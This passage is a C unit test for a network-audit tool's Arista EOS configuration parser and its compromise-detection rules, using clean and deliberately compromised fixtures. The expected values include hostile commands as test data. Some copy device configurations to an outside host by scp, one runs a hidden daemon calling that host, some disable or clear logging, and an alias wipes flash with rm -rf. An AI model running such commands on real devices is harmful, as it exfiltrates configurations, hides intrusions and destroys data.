/*
 * test_eos.c: the Arista EOS parser (lib/parse/eos*.c).
 *
 * Table-driven.  Two fixtures written for this project (data/eos): a clean
 * EOS 4.28 leaf and one with planted AA25-239A artefacts; rows expect a
 * fact of a kind at an exact line with a field value (and, for block
 * fields, the field's own line), and counts per kind.  The built-in rules
 * and indicators are applied to both: the planted one gives each expected
 * compromise finding at its line, the clean one none.  Small inline
 * configurations cover EOF-terminated text, line-ending damage and secret
 * redaction; an edge router written for the hardening rules checks the
 * facts they test (services, AAA keys, interface defaults, IPsec policies,
 * BGP neighbours), each field present or absent at its exact line; the
 * public corpus (when present) checks that every Arista file parses
 * without error, with its fact counts per file.
 */
#define _XOPEN_SOURCE 700
#include <dirent.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>

#include <cmocka.h>

#include "tidewatch/config.h"
#include "tidewatch/finding.h"
#include "tidewatch/ioc.h"
#include "tidewatch/rules.h"

#include "config_test_util.h"

#define DATA TW_SOURCE_DIR "/tests/unit/data/eos/"
#define CONFIGS TW_CORPUS_DIR "/configs"
#define ANY_LINE CFG_ANY_LINE

CFG_TEST_WRAPPERS(tw_parse_eos)

/* ---- the fixtures ------------------------------------------------------- */

typedef struct {
    const char *file;
    tw_fact_kind kind;
    uint32_t line;
    const char *field, *value;
    uint32_t field_line;
} fact_row;

#define CLEAN "leaf-clean.cfg"
#define PLANTED "leaf-planted.cfg"

static const fact_row fact_rows[] = {
    {CLEAN, TW_FACT_VERSION, 2, "version", "4.28.3M", 0},
    {CLEAN, TW_FACT_HOSTNAME, 13, "name", "tw-leaf1", 0},
    {CLEAN, TW_FACT_LOCAL_USER, 8, "role", "network-admin", 0},
    {CLEAN, TW_FACT_LOCAL_USER, 8, "privilege", "15", 0},
    {CLEAN, TW_FACT_LOCAL_USER, 8, "secret_type", "10", 0},
    {CLEAN, TW_FACT_SECRET, 11, "owner", "enable", 0},
    {CLEAN, TW_FACT_SECRET, 11, "form", "secret", 0},
    {CLEAN, TW_FACT_SECRET, 19, "owner", "tacacs 10.10.0.49", 0},
    {CLEAN, TW_FACT_SECRET, 19, "type", "7", 0},
    {CLEAN, TW_FACT_SECRET, 78, "owner", "bgp", 0},
    {CLEAN, TW_FACT_NTP_SERVER, 16, "address", "10.10.0.123", 0},
    {CLEAN, TW_FACT_NTP_SERVER, 16, "vrf", "MGMT", 0},
    {CLEAN, TW_FACT_AAA_SERVER, 19, "vrf", "MGMT", 0},
    {CLEAN, TW_FACT_AAA_SERVER, 19, "key_type", "7", 0},
    {CLEAN, TW_FACT_AAA_SERVER, 22, "group", "TACGRP", 0},
    {CLEAN, TW_FACT_AAA_METHOD, 24, "method", "group TACGRP", 0},
    {CLEAN, TW_FACT_AAA_METHOD, 28, "service", "commands", 0},
    {CLEAN, TW_FACT_AAA_METHOD, 28, "record", "start-stop", 0},
    {CLEAN, TW_FACT_LOGGING_HOST, 30, "vrf", "MGMT", 0},
    {CLEAN, TW_FACT_LOGGING, 31, "setting", "source-interface", 0},
    {CLEAN, TW_FACT_SNMP_COMMUNITY, 33, "acl", "SNMP-MGRS", 0},
    {CLEAN, TW_FACT_SNMP_HOST, 34, "version", "2c", 0},
    {CLEAN, TW_FACT_INTERFACE, 43, "address", "10.0.1.1", 46},
    {CLEAN, TW_FACT_INTERFACE, 55, "vrf", "MGMT", 56},
    {CLEAN, TW_FACT_INTERFACE, 55, "address", "10.10.1.11", 57},
    {CLEAN, TW_FACT_ACL_ENTRY, 63, "src", "10.10.0.161", 0},
    {CLEAN, TW_FACT_ACL_ENTRY, 66, "dst_port", "eq ssh", 0},
    {CLEAN, TW_FACT_ACL_ENTRY, 67, "src_port", "eq ntp", 0},
    {CLEAN, TW_FACT_ROUTE, 73, "next_hop", "10.10.1.1", 0},
    {CLEAN, TW_FACT_SERVICE, 81, "name", "https", 0},
    {CLEAN, TW_FACT_SERVICE, 81, "vrf", "MGMT", 86},
    {CLEAN, TW_FACT_SERVICE, 88, "name", "ssh", 0},
    {CLEAN, TW_FACT_SERVICE, 88, "enabled", "true", 92},
    {CLEAN, TW_FACT_SERVICE, 88, "acl", "MGMT-IN", 89},
    {CLEAN, TW_FACT_SERVICE, 88, "idle_timeout", "15", 90},
    {CLEAN, TW_FACT_SERVICE, 0, "name", "lldp", 0},
    {CLEAN, TW_FACT_SERVICE, 0, "implied", "true", 0},
    {CLEAN, TW_FACT_AAA_SERVER, 22, "key_type", "7", 19},
    {CLEAN, TW_FACT_INTERFACE, 43, "redirects", "true", 0},
    {CLEAN, TW_FACT_INTERFACE, 43, "proxy_arp", "false", 0},
    {CLEAN, TW_FACT_ROUTING_PEER, 77, "remote_as", "65001", 0},
    {CLEAN, TW_FACT_ROUTING_PEER, 77, "auth", "true", 78},
    {CLEAN, TW_FACT_SNMP_COMMUNITY, 33, "strength", "weak", 0},
    {PLANTED, TW_FACT_LOCAL_USER, 5, "name", "supp0rt", 0},
    {PLANTED, TW_FACT_LOCAL_USER, 5, "secret_type", "0", 0},
    {PLANTED, TW_FACT_LOCAL_USER, 6, "form", "nopassword", 0},
    {PLANTED, TW_FACT_AAA_SERVER, 11, "address", "45.61.133.61", 0},
    {PLANTED, TW_FACT_AAA_SERVER, 11, "key_type", "0", 0},
    {PLANTED, TW_FACT_AAA_SERVER, 15, "address", "45.61.133.61", 0},
    {PLANTED, TW_FACT_AAA_SERVER, 15, "key_type", "0", 11},
    {PLANTED, TW_FACT_LOGGING_HOST, 20, "port", "514", 0},
    {PLANTED, TW_FACT_LOGGING_HOST, 20, "transport", "tcp", 0},
    {PLANTED, TW_FACT_LOGGING_HOST, 21, "address", "45.61.133.31", 0},
    {PLANTED, TW_FACT_NTP_SERVER, 23, "address", "45.61.133.31", 0},
    {PLANTED, TW_FACT_SNMP_COMMUNITY, 25, "access", "rw", 0},
    {PLANTED, TW_FACT_MIRROR_SESSION, 28, "source", "Ethernet1 both", 0},
    {PLANTED, TW_FACT_MIRROR_SESSION, 29, "type", "erspan", 0},
    {PLANTED, TW_FACT_MIRROR_SESSION, 29, "id", "TAP", 0},
    {PLANTED, TW_FACT_MIRROR_SESSION, 29, "destination", "45.61.133.61", 0},
    {PLANTED, TW_FACT_MIRROR_SESSION, 29, "tunnel_source", "10.0.255.2", 0},
    {PLANTED, TW_FACT_MIRROR_SESSION, 31, "destination", "Ethernet48", 0},
    {PLANTED, TW_FACT_MIRROR_SESSION, 31, "id", "2", 0},
    {PLANTED, TW_FACT_TUNNEL, 41, "destination", "45.61.133.77", 47},
    {PLANTED, TW_FACT_TUNNEL, 41, "source", "10.0.255.2", 46},
    {PLANTED, TW_FACT_TUNNEL, 41, "mode", "gre", 45},
    {PLANTED, TW_FACT_INTERFACE, 41, "address", "172.31.255.1", 44},
    {PLANTED, TW_FACT_ACL_ENTRY, 51, "src", "45.61.133.61", 0},
    {PLANTED, TW_FACT_ACL_ENTRY, 52, "src", "45.61.133.0/24", 0},
    {PLANTED, TW_FACT_ACL_ENTRY, 56, "src", "45.61.133.77", 0},
    {PLANTED, TW_FACT_ROUTE, 58, "next_hop", "45.61.133.61", 0},
    {PLANTED, TW_FACT_SCRIPT, 60, "type", "event-handler", 0},
    {PLANTED, TW_FACT_SCRIPT, 60, "event", "on-boot", 61},
    {PLANTED, TW_FACT_SCRIPT, 60, "action",
     "FastCli -p 15 -c \"configure terminal\" -c \"no logging host 10.10.0.51\"", 62},
    {PLANTED, TW_FACT_SCRIPT, 65, "action", "scp /mnt/flash/startup-config root@45.61.133.31:/tmp/",
     68},
    {PLANTED, TW_FACT_SCRIPT, 65, "action", "FastCli -p 15 -c \"clear logging\"", 69},
    {PLANTED, TW_FACT_SCRIPT, 72, "type", "daemon", 0},
    {PLANTED, TW_FACT_SCRIPT, 72, "action",
     "/mnt/flash/.hidden/syncd -c 45.61.133.31:8443 <redacted>", 73},
    {PLANTED, TW_FACT_SCRIPT, 76, "action", "copy running-config scp://root@45.61.133.31/r.cfg", 0},
    {PLANTED, TW_FACT_SERVICE, 78, "port", "18443", 80},
    {PLANTED, TW_FACT_SERVICE, 78, "enabled", "true", 81},
    {PLANTED, TW_FACT_SERVICE, 79, "name", "http", 0},
    {PLANTED, TW_FACT_SERVICE, 83, "name", "telnet", 0},
    {PLANTED, TW_FACT_SERVICE, 83, "enabled", "true", 84},
    {PLANTED, TW_FACT_SERVICE, 86, "enabled", "true", 0},
    {PLANTED, TW_FACT_ADDRESS, 58, "value", "45.61.133.61", ANY_LINE},
};

static void test_fixture_facts(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof(fact_rows) / sizeof(fact_rows[0]); i++) {
        const fact_row *r = &fact_rows[i];
        char path[512];
        parsed p = {0};
        snprintf(path, sizeof(path), DATA "%s", r->file);
        parse_file(&p, path);
        assert_int_equal(p.rc, TW_OK);
        row_ok(i, has(&p, r->kind, r->line, r->field, r->value, r->field_line));
        done(&p);
    }
}

typedef struct {
    const char *file;
    tw_fact_kind kind;
    size_t n;
} count_row;

static const count_row count_rows[] = {
    {CLEAN, TW_FACT_LOCAL_USER, 2},       {CLEAN, TW_FACT_SECRET, 5},
    {CLEAN, TW_FACT_AAA_SERVER, 2},       {CLEAN, TW_FACT_AAA_METHOD, 5},
    {CLEAN, TW_FACT_INTERFACE, 5},        {CLEAN, TW_FACT_TUNNEL, 0},
    {CLEAN, TW_FACT_ACL_ENTRY, 4},        {CLEAN, TW_FACT_SERVICE, 3},
    {CLEAN, TW_FACT_ROUTING_PEER, 1},     {CLEAN, TW_FACT_CRYPTO_PROPOSAL, 0},
    {CLEAN, TW_FACT_MIRROR_SESSION, 0},   {CLEAN, TW_FACT_SCRIPT, 0},
    {PLANTED, TW_FACT_MIRROR_SESSION, 4}, {PLANTED, TW_FACT_TUNNEL, 1},
    {PLANTED, TW_FACT_SCRIPT, 4},         {PLANTED, TW_FACT_SERVICE, 5},
    {PLANTED, TW_FACT_LOGGING_HOST, 3},   {PLANTED, TW_FACT_AAA_SERVER, 4},
    {PLANTED, TW_FACT_LOCAL_USER, 3},     {PLANTED, TW_FACT_VERSION, 1},
};

static void test_fixture_counts(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof(count_rows) / sizeof(count_rows[0]); i++) {
        char path[512];
        parsed p = {0};
        snprintf(path, sizeof(path), DATA "%s", count_rows[i].file);
        parse_file(&p, path);
        assert_int_equal(p.diags.n, 0);
        assert_int_equal(count(&p, count_rows[i].kind), count_rows[i].n);
        done(&p);
    }
}

/* ---- rules on the fixtures -------------------------------------------- */

typedef struct {
    const char *rule;
    uint32_t line;
} finding_row;

static const finding_row planted_findings[] = {
    {"TW-AA-IOC-AAA", 11},        {"TW-AA-IOC-AAA", 15},           {"TW-AA-IOC-LOGGING", 20},
    {"TW-AA-IOC-LOGGING", 21},    {"TW-AA-IOC-NTP", 23},           {"TW-AA-SNMP-RW", 25},
    {"TW-AA-IOC-SNMP", 26},       {"TW-AA-IOC-MIRROR", 29},        {"TW-AA-MIRROR-PUBLIC", 29},
    {"TW-AA-IOC-TUNNEL", 47},     {"TW-AA-TUNNEL-PUBLIC", 47},     {"TW-AA-IOC-ACL", 51},
    {"TW-AA-IOC-ACL", 52},        {"TW-AA-IOC-ACL", 56},           {"TW-AA-IOC-ROUTE", 58},
    {"TW-AA-SCRIPT-EXFIL", 76},   {"TW-AA-HTTP-PORT-PATTERN", 80}, {"TW-AA-SCRIPT-LOGGING", 62},
    {"TW-AA-SCRIPT-LOGGING", 69},
};

static void test_rules_planted(void **state)
{
    audited a;

    (void)state;
    audit(&a, DATA PLANTED);
    for (size_t i = 0; i < sizeof(planted_findings) / sizeof(planted_findings[0]); i++)
        assert_int_equal(cfg_findings(&a.fl, TW_CAT_COMPROMISE, planted_findings[i].rule,
                                      planted_findings[i].line),
                         1);
    assert_int_equal(cfg_findings(&a.fl, TW_CAT_COMPROMISE, NULL, ANY_LINE),
                     sizeof(planted_findings) / sizeof(planted_findings[0]));
    unaudit(&a);
}

static void test_rules_clean(void **state)
{
    audited a;

    (void)state;
    audit(&a, DATA CLEAN);
    assert_int_equal(cfg_findings(&a.fl, TW_CAT_COMPROMISE, NULL, ANY_LINE), 0);
    assert_true(a.fl.n > 0); /* hardening findings remain: the SNMP community */
    unaudit(&a);
}

/* ---- inline configurations -------------------------------------------- */

typedef struct {
    const char *cfg;
    tw_fact_kind kind;
    uint32_t line;
    const char *field, *value;
    uint32_t field_line;
} inline_row;

static const inline_row inline_rows[] = {
    /* text that ends with EOF is skipped or read as bash */
    {"banner login\nhostname evil\nEOF\nhostname r1\n", TW_FACT_HOSTNAME, 4, "name", "r1", 0},
    {"interface Ethernet1\n   comment\n   ip address 1.1.1.1/24\n   EOF\n   ip address "
     "2.2.2.2/24\n",
     TW_FACT_INTERFACE, 1, "address", "2.2.2.2", 5},
    {"event-handler H\n   action bash\n      echo hi\n      EOF\n   trigger on-boot\n",
     TW_FACT_SCRIPT, 1, "event", "on-boot", 5},
    {"event-handler H\n   action bash\n      echo hi\n      EOF\n", TW_FACT_SCRIPT, 1, "action",
     "echo hi", 3},
    /* line endings, BOM, NUL bytes, no final newline */
    {"\xEF\xBB\xBFhostname r1\r\nntp server 192.0.2.1\r\n", TW_FACT_NTP_SERVER, 2, "address",
     "192.0.2.1", 0},
    {"logging host 192.0.2.9", TW_FACT_LOGGING_HOST, 1, "address", "192.0.2.9", 0},
    /* statements */
    {"ip route 10.0.0.0 255.0.0.0 192.0.2.1\n", TW_FACT_ROUTE, 1, "prefix", "10.0.0.0/8", 0},
    {"ip route 10.1.0.0/16 Null0\n", TW_FACT_ROUTE, 1, "interface", "Null0", 0},
    {"ipv6 route 2001:db8::/32 2001:db8::1\n", TW_FACT_ROUTE, 1, "next_hop", "2001:db8::1", 0},
    {"ipv6 access-list V6\n   10 permit ipv6 2001:db8::/32 any\n", TW_FACT_ACL_ENTRY, 2, "family",
     "ipv6", 0},
    {"radius-server host 192.0.2.7 vrf M auth-port 1812 key 8a ABCD\n", TW_FACT_AAA_SERVER, 1,
     "key_type", "6", 0},
    {"radius-server host 192.0.2.7 key 8a ABCD\n", TW_FACT_SECRET, 1, "type", "6", 0},
    {"aaa root secret sha512 $6$x$y\n", TW_FACT_SECRET, 1, "owner", "root", 0},
    {"username u sshkey ssh-rsa AAAAB3 u@h\n", TW_FACT_LOCAL_USER, 1, "form", "sshkey", 0},
    {"username u privilege 15 secret plaintext\n", TW_FACT_SECRET, 1, "type", "0", 0},
    {"enable password 7 ABCDEF\n", TW_FACT_SECRET, 1, "form", "password", 0},
    {"ntp authentication-key 1 md5 7 0011\n", TW_FACT_SECRET, 1, "type", "7", 0},
    {"snmp-server user U G v3 auth sha AUTHK priv aes PRIVK\n", TW_FACT_SNMP_USER, 1, "priv",
     "aes128", 0},
    {"snmp-server user U G v3 localized 0011 auth SHA256 K priv aes192 K\n", TW_FACT_SNMP_USER, 1,
     "auth", "sha256", 0},
    {"snmp-server user U G v3 localized 0011 auth SHA256 K priv aes192 K\n", TW_FACT_SNMP_USER, 1,
     "priv", "aes192", 0},
    {"alias wipe bash rm -rf /mnt/flash/*\n", TW_FACT_SCRIPT, 1, "action",
     "bash rm -rf /mnt/flash/*", 0},
    {"management api gnmi\n   transport grpc default\n", TW_FACT_SERVICE, 1, "name", "gnmi", 0},
    {"management telnet\n   idle-timeout 5\n", TW_FACT_SERVICE, 1, "enabled", "false", 0},
    {"management ssh\n   shutdown\n", TW_FACT_SERVICE, 1, "enabled", "false", 2},
    {"interface Tunnel1\n   tunnel source interface Loopback0\n", TW_FACT_TUNNEL, 1, "source",
     "Loopback0", 2},
    {"interface Tunnel1\n   tunnel destination 203.0.113.5\n", TW_FACT_TUNNEL, 1, "mode", "gre", 0},
    {"interface Ethernet1\n   shutdown\n", TW_FACT_INTERFACE, 1, "shutdown", "true", 0},
    {"router bgp 1\n   neighbor 192.0.2.1 password 7 ABC\n", TW_FACT_SECRET, 2, "owner", "bgp", 0},
    {"monitor session 1 destination tunnel mode gre source 10.0.0.1 destination 192.0.2.8 vrf "
     "V\n",
     TW_FACT_MIRROR_SESSION, 1, "vrf", "V", 0},
    /* hardening facts; a NULL value: the field is absent */
    {"hostname r1\n", TW_FACT_SERVICE, 0, "name", "lldp", 0},
    {"hostname r1\n", TW_FACT_SERVICE, 0, "implied", "true", 0},
    {"lldp run\n", TW_FACT_SERVICE, 1, "enabled", "true", 0},
    {"lldp run\n", TW_FACT_SERVICE, 1, "implied", NULL, 0},
    {"ntp authenticate servers\n", TW_FACT_SERVICE, 1, "name", "ntp-authenticate", 0},
    {"no ntp authenticate\n", TW_FACT_SERVICE, 1, "enabled", "false", 0},
    {"banner motd\nhostname evil\nEOF\n", TW_FACT_SERVICE, 1, "name", "banner", 0},
    {"logging trap 6\n", TW_FACT_LOGGING, 1, "severity", "6", 0},
    {"logging trap Debugging\n", TW_FACT_LOGGING, 1, "severity", "7", 0},
    {"no logging trap\n", TW_FACT_LOGGING, 1, "severity", NULL, 0},
    {"logging host 192.0.2.9 514 protocol TCP\n", TW_FACT_LOGGING_HOST, 1, "transport", "tcp", 0},
    {"tacacs-server key 0 KEY\ntacacs-server host 192.0.2.1\n", TW_FACT_AAA_SERVER, 2, "key_type",
     "0", 1},
    {"radius-server key 7 0011\nradius-server host 192.0.2.1\n", TW_FACT_AAA_SERVER, 2, "key_type",
     "7", 1},
    {"tacacs-server key 7 0011\nradius-server host 192.0.2.1\n", TW_FACT_AAA_SERVER, 2, "key_type",
     NULL, 0},
    {"aaa group server tacacs+ G\n   server 192.0.2.9\n", TW_FACT_AAA_SERVER, 2, "key_type", NULL,
     0},
    {"aaa authorization commands 10,15 default group tacacs+ local\n", TW_FACT_AAA_METHOD, 1,
     "list", "default", 0},
    {"interface Management1\n   ip address dhcp\n", TW_FACT_INTERFACE, 1, "redirects", "true", 0},
    {"interface Vlan5\n   ip address 10.0.0.1/24\n   no ip proxy-arp\n", TW_FACT_INTERFACE, 1,
     "proxy_arp", "false", 3},
    {"no ip icmp redirect\nip icmp redirect\ninterface Vlan5\n   ip address 10.0.0.1/24\n",
     TW_FACT_INTERFACE, 3, "redirects", "true", 0},
    {"ip security\n   sa policy S\n      esp integrity sha1\n", TW_FACT_CRYPTO_PROPOSAL, 2,
     "integrity", "sha1", 3},
    {"router bgp 1.10\n   neighbor 192.0.2.1 remote-as 1.10\n", TW_FACT_ROUTING_PEER, 2,
     "remote_as", "65546", 0},
    {"router bgp 1\n   neighbor 2001:db8::1 remote-as 2\n", TW_FACT_ROUTING_PEER, 2, "address",
     "2001:db8::1", 0},
    {"router bgp 1\n   neighbor G peer group\n   neighbor 192.0.2.1 peer group G\n",
     TW_FACT_ROUTING_PEER, 3, "auth", "false", 0},
    {"router bgp 1\n   neighbor 192.0.2.1 remote-as 2\n   neighbor 192.0.2.1 password "
     "shared-secret profile P algorithm aes-128-cmac-96\n",
     TW_FACT_ROUTING_PEER, 2, "auth", "true", 3},
    {"router bgp 1\n   neighbor G peer group\n   neighbor 192.0.2.1 peer group G\n",
     TW_FACT_ROUTING_PEER, 3, "remote_as", NULL, 0},
};

static void test_inline(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof(inline_rows) / sizeof(inline_rows[0]); i++) {
        const inline_row *r = &inline_rows[i];
        parsed p = {0};
        parse_n(&p, r->cfg, strlen(r->cfg));
        assert_int_equal(p.rc, TW_OK);
        row_ok(i, has_or_lacks(&p, r->kind, r->line, r->field, r->value, r->field_line));
        done(&p);
    }
}

/* NUL bytes inside a line are dropped. */
static void test_nul(void **state)
{
    static const char cfg[] = "host\0name r1\nntp server 192.0.\0002.1\n";
    parsed p = {0};

    (void)state;
    parse_n(&p, cfg, sizeof(cfg) - 1);
    assert_true(has(&p, TW_FACT_HOSTNAME, 1, "name", "r1", 0));
    assert_true(has(&p, TW_FACT_NTP_SERVER, 2, "address", "192.0.2.1", 0));
    done(&p);
}

/* ---- the facts of the hardening rules ----------------------------------- */

/* An edge router written for the hardening rules; its line numbers are in
 * the comments. */
static const char hard_cfg[] =
    "! device: tw-edge1 (DCS-7280CR3-32P4, EOS-4.30.2F)\n"                     /* 1 */
    "!\n"                                                                      /* 2 */
    "hostname tw-edge1\n"                                                      /* 3 */
    "!\n"                                                                      /* 4 */
    "no lldp run\n"                                                            /* 5 */
    "!\n"                                                                      /* 6 */
    "aaa authentication policy lockout failure 3 window 900 duration 300\n"    /* 7 */
    "aaa authentication login default group TACGRP local\n"                    /* 8 */
    "aaa authorization commands all default group TACGRP local\n"              /* 9 */
    "!\n"                                                                      /* 10 */
    "tacacs-server host 10.10.0.49 vrf MGMT\n"                                 /* 11 */
    "tacacs-server host 10.10.0.50 key 7 070C285F4D06\n"                       /* 12 */
    "radius-server host 10.10.0.60\n"                                          /* 13 */
    "tacacs-server key 7 0207165218120E\n"                                     /* 14 */
    "!\n"                                                                      /* 15 */
    "aaa group server tacacs+ TACGRP\n"                                        /* 16 */
    "   server 10.10.0.49 vrf MGMT\n"                                          /* 17 */
    "   server 10.10.0.50\n"                                                   /* 18 */
    "   server 10.10.0.51\n"                                                   /* 19 */
    "!\n"                                                                      /* 20 */
    "banner login\n"                                                           /* 21 */
    "Authorised access only\n"                                                 /* 22 */
    "EOF\n"                                                                    /* 23 */
    "!\n"                                                                      /* 24 */
    "logging trap warnings\n"                                                  /* 25 */
    "logging vrf MGMT host 10.10.0.51 6514 protocol tls\n"                     /* 26 */
    "logging host 10.10.0.52\n"                                                /* 27 */
    "!\n"                                                                      /* 28 */
    "ntp authentication-key 1 sha1 7 0011223344\n"                             /* 29 */
    "ntp trusted-key 1\n"                                                      /* 30 */
    "ntp authenticate\n"                                                       /* 31 */
    "ntp server vrf MGMT 10.10.0.123 iburst key 1\n"                           /* 32 */
    "!\n"                                                                      /* 33 */
    "snmp-server community public ro\n"                                        /* 34 */
    "snmp-server community Xq7-Lm2pR9-zT4w ro SNMP-MGRS\n"                     /* 35 */
    "snmp-server user OPS NETOPS v3 auth sha512 AUTHKEY priv aes256 PRIVKEY\n" /* 36 */
    "snmp-server user OLD NETOPS v3 auth md5 AUTHKEY priv aes PRIVKEY\n"       /* 37 */
    "snmp-server user RO NETOPS v3\n"                                          /* 38 */
    "!\n"                                                                      /* 39 */
    "management security\n"                                                    /* 40 */
    "   password minimum length 12\n"                                          /* 41 */
    "   password encryption-key common\n"                                      /* 42 */
    "!\n"                                                                      /* 43 */
    "management ssh\n"                                                         /* 44 */
    "   cipher aes256-ctr AES128-CBC\n"                                        /* 45 */
    "   key-exchange ecdh-sha2-nistp521 diffie-hellman-group14-sha1\n"         /* 46 */
    "   mac hmac-sha2-512 hmac-sha1\n"                                         /* 47 */
    "   idle-timeout 15\n"                                                     /* 48 */
    "!\n"                                                                      /* 49 */
    "interface Ethernet1\n"                                                    /* 50 */
    "   no switchport\n"                                                       /* 51 */
    "   ip address 192.0.2.1/31\n"                                             /* 52 */
    "   ip proxy-arp\n"                                                        /* 53 */
    "!\n"                                                                      /* 54 */
    "interface Ethernet2\n"                                                    /* 55 */
    "   description access port\n"                                             /* 56 */
    "!\n"                                                                      /* 57 */
    "interface Vlan10\n"                                                       /* 58 */
    "   ip address 10.1.10.1/24\n"                                             /* 59 */
    "   ip directed-broadcast\n"                                               /* 60 */
    "!\n"                                                                      /* 61 */
    "interface Vlan20\n"                                                       /* 62 */
    "   ip address virtual 10.1.20.1/24\n"                                     /* 63 */
    "!\n"                                                                      /* 64 */
    "interface Loopback6\n"                                                    /* 65 */
    "   ipv6 address 2001:db8::1/128\n"                                        /* 66 */
    "!\n"                                                                      /* 67 */
    "ip security\n"                                                            /* 68 */
    "   ike policy IKE-1\n"                                                    /* 69 */
    "      encryption aes256\n"                                                /* 70 */
    "      integrity sha256\n"                                                 /* 71 */
    "      dh-group 24\n"                                                      /* 72 */
    "   !\n"                                                                   /* 73 */
    "   sa policy SA-1\n"                                                      /* 74 */
    "      esp encryption aes128gcm128\n"                                      /* 75 */
    "      esp integrity null\n"                                               /* 76 */
    "      pfs dh-group 14\n"                                                  /* 77 */
    "   !\n"                                                                   /* 78 */
    "   profile P1\n"                                                          /* 79 */
    "      ike-policy IKE-1\n"                                                 /* 80 */
    "      sa-policy SA-1\n"                                                   /* 81 */
    "      shared-key 7 12312312313213AA\n"                                    /* 82 */
    "!\n"                                                                      /* 83 */
    "router bgp 65001\n"                                                       /* 84 */
    "   neighbor UNDERLAY peer group\n"                                        /* 85 */
    "   neighbor UNDERLAY remote-as 65100\n"                                   /* 86 */
    "   neighbor 192.0.2.0 peer group UNDERLAY\n"                              /* 87 */
    "   neighbor 192.0.2.2 remote-as 65200\n"                                  /* 88 */
    "   neighbor 192.0.2.2 description transit\n"                              /* 89 */
    "   neighbor 192.0.2.4 peer-group UNDERLAY\n"                              /* 90 */
    "   neighbor 192.0.2.4 remote-as 65300\n"                                  /* 91 */
    "   neighbor 192.0.2.4 password 7 abcdEFGH==\n"                            /* 92 */
    "   neighbor UNDERLAY password 7 q+VNViP5i4rVjW1cxFv2wA==\n"               /* 93 */
    "   !\n"                                                                   /* 94 */
    "   address-family ipv4\n"                                                 /* 95 */
    "      neighbor 192.0.2.6 activate\n"                                      /* 96 */
    "   !\n"                                                                   /* 97 */
    "   vrf RED\n"                                                             /* 98 */
    "      neighbor 198.51.100.1 peer group UNDERLAY\n"                        /* 99 */
    "      neighbor 198.51.100.3 remote-as 65400\n"                            /* 100 */
    "!\n"                                                                      /* 101 */
    "no ip icmp redirect\n"                                                    /* 102 */
    "!\n"                                                                      /* 103 */
    "end\n" /* 104 */;

typedef struct {
    tw_fact_kind kind;
    uint32_t line;
    const char *field, *value; /* value NULL: no fact of kind at line has the field */
    uint32_t field_line;
} hard_row;

static const hard_row hard_rows[] = {
    /* services */
    {TW_FACT_SERVICE, 5, "name", "lldp", 0},
    {TW_FACT_SERVICE, 5, "enabled", "false", 0},
    {TW_FACT_SERVICE, 5, "implied", NULL, 0},
    {TW_FACT_SERVICE, 7, "name", "login-block", 0},
    {TW_FACT_SERVICE, 7, "enabled", "true", 0},
    {TW_FACT_SERVICE, 21, "name", "banner", 0},
    {TW_FACT_SERVICE, 21, "enabled", "true", 0},
    {TW_FACT_SERVICE, 31, "name", "ntp-authenticate", 0},
    {TW_FACT_SERVICE, 31, "enabled", "true", 0},
    {TW_FACT_SERVICE, 41, "name", "password-policy", 0},
    {TW_FACT_SERVICE, 41, "enabled", "true", 0},
    {TW_FACT_SERVICE, 41, "min_length", "12", 0},
    {TW_FACT_SERVICE, 44, "name", "ssh", 0},
    {TW_FACT_SERVICE, 44, "cipher", "aes256-ctr", 45},
    {TW_FACT_SERVICE, 44, "cipher", "aes128-cbc", 45},
    {TW_FACT_SERVICE, 44, "kex", "ecdh-sha2-nistp521", 46},
    {TW_FACT_SERVICE, 44, "kex", "diffie-hellman-group14-sha1", 46},
    {TW_FACT_SERVICE, 44, "mac", "hmac-sha2-512", 47},
    {TW_FACT_SERVICE, 44, "mac", "hmac-sha1", 47},
    /* AAA: methods, and keys from the host or the global key after them */
    {TW_FACT_AAA_METHOD, 8, "service", "login", 0},
    {TW_FACT_AAA_METHOD, 8, "method", "group TACGRP", 0},
    {TW_FACT_AAA_METHOD, 9, "type", "authorization", 0},
    {TW_FACT_AAA_METHOD, 9, "service", "commands", 0},
    {TW_FACT_AAA_METHOD, 9, "level", NULL, 0},
    {TW_FACT_AAA_SERVER, 11, "key_type", "7", 14},
    {TW_FACT_AAA_SERVER, 12, "key_type", "7", 0},
    {TW_FACT_AAA_SERVER, 13, "key_type", NULL, 0},
    {TW_FACT_AAA_SERVER, 17, "key_type", "7", 14},
    {TW_FACT_AAA_SERVER, 18, "key_type", "7", 12},
    {TW_FACT_AAA_SERVER, 19, "key_type", "7", 14},
    /* logging, NTP, SNMP */
    {TW_FACT_LOGGING, 25, "setting", "trap", 0},
    {TW_FACT_LOGGING, 25, "severity", "4", 0},
    {TW_FACT_LOGGING_HOST, 26, "transport", "tls", 0},
    {TW_FACT_LOGGING_HOST, 26, "port", "6514", 0},
    {TW_FACT_LOGGING_HOST, 27, "transport", NULL, 0},
    {TW_FACT_NTP_SERVER, 32, "key", "1", 0},
    {TW_FACT_SNMP_COMMUNITY, 34, "strength", "weak", 0},
    {TW_FACT_SNMP_COMMUNITY, 35, "strength", "ok", 0},
    {TW_FACT_SNMP_USER, 36, "auth", "sha512", 0},
    {TW_FACT_SNMP_USER, 36, "priv", "aes256", 0},
    {TW_FACT_SNMP_USER, 37, "auth", "md5", 0},
    {TW_FACT_SNMP_USER, 37, "priv", "aes128", 0},
    {TW_FACT_SNMP_USER, 38, "auth", NULL, 0},
    {TW_FACT_SNMP_USER, 38, "priv", NULL, 0},
    /* interfaces with IPv4 carry the three settings; redirects from line 102 */
    {TW_FACT_INTERFACE, 50, "proxy_arp", "true", 53},
    {TW_FACT_INTERFACE, 50, "directed_broadcast", "false", 0},
    {TW_FACT_INTERFACE, 50, "redirects", "false", 102},
    {TW_FACT_INTERFACE, 55, "proxy_arp", NULL, 0},
    {TW_FACT_INTERFACE, 55, "directed_broadcast", NULL, 0},
    {TW_FACT_INTERFACE, 55, "redirects", NULL, 0},
    {TW_FACT_INTERFACE, 58, "proxy_arp", "false", 0},
    {TW_FACT_INTERFACE, 58, "directed_broadcast", "true", 60},
    {TW_FACT_INTERFACE, 58, "redirects", "false", 102},
    {TW_FACT_INTERFACE, 62, "redirects", "false", 102},
    {TW_FACT_INTERFACE, 65, "redirects", NULL, 0},
    /* IPsec policies */
    {TW_FACT_CRYPTO_PROPOSAL, 69, "protocol", "ike", 0},
